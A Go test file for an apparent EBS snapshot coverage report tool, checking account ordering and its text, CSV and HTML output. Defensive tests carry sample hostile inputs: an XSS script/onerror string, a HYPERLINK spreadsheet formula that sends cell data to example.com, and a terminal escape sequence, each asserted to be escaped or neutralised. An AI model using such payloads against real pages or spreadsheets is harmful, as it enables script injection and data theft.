package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/ebs-snapper/ebs-snapper/internal/inventory"
)

// TestOrgWorstFirst: the organisation view orders accounts by outcome
// (could not be read, breach, partial, unprotected, ok, skipped), then by
// more late and missing volumes, then lower coverage, then id, and sums
// the coverage of the accounts read.
func TestOrgWorstFirst(t *testing.T) {
	cov := func(ok, late, missing int) Coverage {
		c := Coverage{Matched: ok + late + missing, OK: ok, Late: late, Missing: missing}
		c.finish()
		return c
	}
	org := NewOrg(time.Date(2026, 12, 6, 0, 0, 0, 0, time.UTC), []OrgAccount{
		{Account: "100000000001", Outcome: "ok", Coverage: cov(10, 0, 0)},
		{Account: "100000000002", Outcome: "skipped", Error: "suspended"},
		{Account: "100000000003", Outcome: "breach", Coverage: cov(5, 1, 0)},
		{Account: "100000000004", Outcome: "breach", Coverage: cov(5, 1, 2)},
		{Account: "100000000005", Outcome: "error", Error: "refused", Fix: "deploy the StackSet"},
		{Account: "100000000006", Outcome: "ok", Coverage: cov(0, 0, 0)},
		{Account: "100000000007", Outcome: "unprotected"},
		{Account: "100000000008", Outcome: "partial", Coverage: cov(3, 0, 0)},
	})
	var order []string
	for _, a := range org.Accounts {
		order = append(order, a.Account[len(a.Account)-1:])
	}
	if got, want := strings.Join(order, ""), "54387612"; got != want {
		t.Errorf("order %s, want %s", got, want)
	}
	if c := org.Coverage; c.Matched != 27 || c.OK != 23 || c.Late != 2 || c.Missing != 2 || !org.Breach() {
		t.Errorf("coverage %+v, want 27 matched, 23 ok, 2 late, 2 missing", c)
	}
	var text, csv, html bytes.Buffer
	if err := WriteOrgText(&text, org, 200, false); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text.String(), "8 accounts: 23 of 27 matched volumes ok (85.2%); late 2, missing 2; 1 accounts could not be read, 1 skipped") ||
		!strings.Contains(text.String(), "refused; fix: deploy the StackSet") {
		t.Errorf("text:\n%s", text.String())
	}
	if err := WriteOrgCSV(&csv, org); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(csv.String()), "\n")
	if lines[0] != "account,"+strings.Join(csvHeader, ",") || lines[1] != "100000000005,,error,,,,,,,,,,,,refused; fix: deploy the StackSet" {
		t.Errorf("csv:\n%s", csv.String())
	}
	if err := WriteOrgHTML(&html, org); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(html.String(), `<span class="badge error">error</span>`) || !strings.Contains(html.String(), "<strong>Fix:</strong> deploy the StackSet") {
		t.Errorf("html lacks the refused account and its fix")
	}
}

// TestOrgHTMLEscapesMemberData: what a member account controls (its
// instances' Name tags, hence a volume's row; AWS's answer quoted in an
// error) reaches the organisation page as text: html/template escapes it,
// so a hostile tag or message adds no element to the page.
func TestOrgHTMLEscapesMemberData(t *testing.T) {
	const hostile = `"><script>alert(1)</script><img src=x onerror=alert(2)>`
	inv, p := fleet(t)
	late := inv.Instances["i-late"]
	late.Tags = append(late.Tags, inventory.Tag{Key: "Name", Value: hostile})
	inv.Instances["i-late"] = late
	rep := New("222222222222", now, nil, []Region{ForRegion(inv, p, Options{Now: now})})
	org := NewOrg(now, []OrgAccount{
		AccountOf(rep, []string{"ou-ab12-cdef3456"}),
		{Account: "333333333333", Outcome: "error", Error: "AccessDenied: " + hostile, Fix: "deploy the StackSet"},
	})
	var html bytes.Buffer
	if err := WriteOrgHTML(&html, org); err != nil {
		t.Fatal(err)
	}
	page := html.String()
	for _, bad := range []string{"<script", "<img"} {
		if strings.Contains(page, bad) {
			t.Errorf("page contains %q from member data", bad)
		}
	}
	if strings.Count(page, "&lt;script&gt;alert(1)&lt;/script&gt;") < 2 {
		t.Errorf("the hostile Name tag and error are not on the page as text:\n%s", page)
	}
}

// TestCSVNameIsNoFormula: an instance's Name tag, which a member account
// writes, reaches the organisation CSV as text a spreadsheet does not run:
// a leading =, +, -, @ gets a quote; an ordinary name is left alone.
func TestCSVNameIsNoFormula(t *testing.T) {
	for name, want := range map[string]string{
		`=HYPERLINK("https://example.com/?"&A2,"open")`: `'=HYPERLINK("https://example.com/?"&A2,"open")`,
		"+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "web-1": "web-1", "": "",
	} {
		inv, p := fleet(t)
		late := inv.Instances["i-late"]
		late.Tags = []inventory.Tag{{Key: "Name", Value: name}}
		inv.Instances["i-late"] = late
		rep := New("222222222222", now, nil, []Region{ForRegion(inv, p, Options{Now: now})})
		var b bytes.Buffer
		if err := WriteOrgCSV(&b, NewOrg(now, []OrgAccount{AccountOf(rep, nil)})); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, r := range rows {
			if r[4] == "i-late" {
				found = true
				if r[5] != want {
					t.Errorf("Name %q: instance_name %q, want %q", name, r[5], want)
				}
			}
		}
		if !found {
			t.Errorf("no row of i-late:\n%s", b.String())
		}
	}
}

// TestInstanceLabelShowsNoControlCharacter: a Name tag carrying a
// terminal escape sequence or a tab reaches the text tables as "?".
func TestInstanceLabelShowsNoControlCharacter(t *testing.T) {
	for name, want := range map[string]string{
		"web\x1b]0;owned\x07-1": "i-1 (web?]0;owned?-1)", "a\tb\nc": "i-1 (a?b?c)", "plain name": "i-1 (plain name)", "": "i-1",
	} {
		if got := InstanceLabel("i-1", name); got != want {
			t.Errorf("InstanceLabel(%q) = %q, want %q", name, got, want)
		}
	}
}
